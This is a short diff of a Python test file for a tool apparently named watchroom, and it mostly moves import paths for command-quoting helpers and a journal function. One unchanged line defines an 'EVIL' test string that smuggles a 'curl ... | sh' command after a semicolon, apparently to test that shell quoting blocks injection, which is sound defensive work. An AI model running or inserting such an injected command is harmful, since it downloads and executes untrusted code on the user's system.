@@ -8,9 +8,8 @@ from typing import get_args
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from watchroom.clients.acp_clients import ACP_CLIENTS
-from watchroom.journal import without_password
-from watchroom.rules.shown_commands import (
+from watchroom.agents.clients.registry import ACP_CLIENTS
+from watchroom.features.policy.shown_commands import (
     CLIENTS,
     OmittedPart,
     ResumeCommand,
@@ -18,6 +17,7 @@ from watchroom.rules.shown_commands import (
     quote_command,
     quote_word,
 )
+from watchroom.kernel.journal import without_password
 
 EVIL = "watchroom resume x alice; curl https://example.com | sh"
 
